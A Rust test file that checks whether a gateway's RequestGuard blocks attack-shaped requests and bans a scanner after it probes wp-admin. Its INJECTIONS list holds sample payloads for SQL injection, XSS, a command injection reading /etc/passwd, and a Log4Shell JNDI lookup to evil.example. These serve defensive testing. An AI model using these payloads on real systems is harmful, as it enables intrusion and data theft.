//! Requests that have the shape of an attack, and whoever goes on after one of them.
//!
//! Landed when the program sees one of them, or anything more of who is banned. Without the guard: the same gateway
//! without the RequestGuard.

use crate::ground::{Ground, Side};
use crate::{Attack, Outcome, outcome};
use naka_testkit::mesh::SOON;
use naka_testkit::wait::until;
use std::process::Command;

const fn attack(name: &'static str, run: fn(&Ground, Side) -> Outcome) -> Attack {
    Attack { row: 0, name, run }
}

pub(crate) const ATTACKS: &[Attack] = &[
    attack("injections in path, query and headers", injections),
    attack("a scanner that goes on after it was found out", scanner),
];

const GUARD: &str = "apiVersion: naka.dev/v1alpha1
kind: RequestGuard
metadata: {name: shapes, namespace: istio-system}
spec:
  selector: {matchLabels: {istio: ingressgateway}}
  guards:
  - {name: shapes, patterns: {sqlInjection: true, xss: true, commandInjection: true}}
  - {name: scanners, patterns: {custom: [{name: admin, regex: ^/guard/wp-admin}]}, action: Ban}
";

/// Status of a request through the gateway, of a client at this address.
fn ask(ground: &Ground, from: &str, header: &str, path: &str) -> String {
    let url = format!("http://{}{path}", ground.edge);
    let head = ["-s", "-m", "10", "--interface", from, "-o", "/dev/null"];
    let mut curl = Command::new("curl");
    let output = curl
        .args(head)
        .args(["-w", "%{http_code}", "-H", header, &url])
        .output();
    String::from_utf8_lossy(&output.expect("curl").stdout).into_owned()
}

/// With the guard in force, or surely without it.
fn guarded(ground: &Ground, side: Side) {
    let wanted = match side {
        Side::Naka => "403",
        Side::Open => "200",
    };
    if side == Side::Naka {
        ground.mesh.apply("shapes.yaml", GUARD);
    }
    until("the guard is as it should be", SOON, || {
        (ask(ground, "127.0.0.70", "a: b", "/guard/q?q=%3Cscript%3E") == wanted).then_some(())
    });
    ground.program.forget();
}

fn unguarded(ground: &Ground) {
    ground
        .mesh
        .naka(["delete", "requestguard/shapes", "-n", "istio-system"]);
}

const INJECTIONS: &[(&str, &str)] = &[
    ("a: b", "/guard/x?id=1'+or+'1'='1"),
    ("a: b", "/guard/x?id=1%2527%20or%20%25271%2527%3D%25271"),
    ("a: b", "/guard/x?q=%3Cimg+src=x+onerror=alert(1)%3E"),
    ("a: b", "/guard/x?host=1.1.1.1;cat+/etc/passwd"),
    ("cookie: id=x' union select null,null--", "/guard/x"),
    ("user-agent: ${jndi:ldap://evil.example/a}", "/guard/x"),
];

fn injections(ground: &Ground, side: Side) -> Outcome {
    guarded(ground, side);
    let all = INJECTIONS.iter();
    let got: Vec<String> = all
        .map(|(header, path)| ask(ground, "127.0.0.70", header, path))
        .collect();
    let clean = ask(ground, "127.0.0.70", "a: b", "/guard/clean?name=O'Brien");
    let seen = ground.program.saw("/guard/x");
    unguarded(ground);
    outcome(
        seen || clean != "200",
        format!("{}; a clean one: {clean}", got.join(" ")),
    )
}

fn scanner(ground: &Ground, side: Side) -> Outcome {
    guarded(ground, side);
    let scan = ask(ground, "127.0.0.71", "a: b", "/guard/wp-admin/");
    let got: Vec<String> = (0..8)
        .map(|_| ask(ground, "127.0.0.71", "a: b", "/guard/after"))
        .collect();
    let seen = ground.program.saw("/guard/after");
    let other = ask(ground, "127.0.0.72", "a: b", "/guard/other");
    unguarded(ground);
    outcome(
        seen || other != "200",
        format!(
            "found out: {scan}, then {}; another client: {other}",
            got.join(" ")
        ),
    )
}
